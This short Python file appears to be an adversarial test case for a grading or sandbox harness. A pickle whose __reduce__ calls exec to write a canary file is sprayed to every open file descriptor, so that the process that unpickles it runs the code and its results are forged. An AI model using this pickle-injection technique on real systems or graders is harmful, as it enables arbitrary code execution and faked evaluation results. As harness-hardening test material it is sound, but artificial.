"""A pickle that writes into somebody else's file is sent to every open descriptor."""
# covers: forged results on pipes, pickles
# honest: exercise2
# %% exercise1
import os, pickle, struct

class Letter:
    def __reduce__(self):
        return exec, ("open('@CANARY@/outside.txt', 'a').write('a pickle was here')",)

LETTER = pickle.dumps(Letter())

def exercise1(*anything):
    for descriptor in range(3, 200):
        for message in (LETTER, struct.pack(">I", len(LETTER)) + LETTER, struct.pack(">Q", len(LETTER)) + LETTER):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, message)
            except OSError:
                break
    return None
